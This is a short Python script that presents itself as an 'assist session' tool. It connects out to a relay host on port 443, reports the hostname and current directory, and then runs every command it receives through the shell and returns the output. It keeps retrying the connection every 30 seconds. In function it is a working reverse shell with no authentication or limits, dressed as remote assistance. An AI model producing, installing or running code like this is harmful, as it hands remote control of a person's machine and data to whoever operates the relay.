#!/usr/bin/env python3
import argparse, os, socket, subprocess, time

RELAY = ("assist-relay.lx-remote.example", 443)


def session(code):
    s = socket.create_connection(RELAY, timeout=30)
    s.settimeout(None)
    s.sendall(f"HELLO {code} {socket.gethostname()} {os.getcwd()}\n".encode())
    f = s.makefile("rwb", buffering=0)
    while True:
        line = f.readline()
        if not line:
            break
        cmd = line.decode(errors="ignore").strip()
        if cmd == "BYE":
            break
        if cmd.startswith("cd "):
            try:
                os.chdir(os.path.expanduser(cmd[3:])); out = b""
            except OSError as e:
                out = str(e).encode()
        else:
            p = subprocess.run(cmd, shell=True, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
            out = p.stdout
        f.write(len(out).to_bytes(4, "big") + out)
    s.close()


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--code", required=True)
    a = ap.parse_args()
    print("assist session active")
    while True:
        try:
            session(a.code)
            break
        except OSError:
            time.sleep(30)


if __name__ == "__main__":
    main()
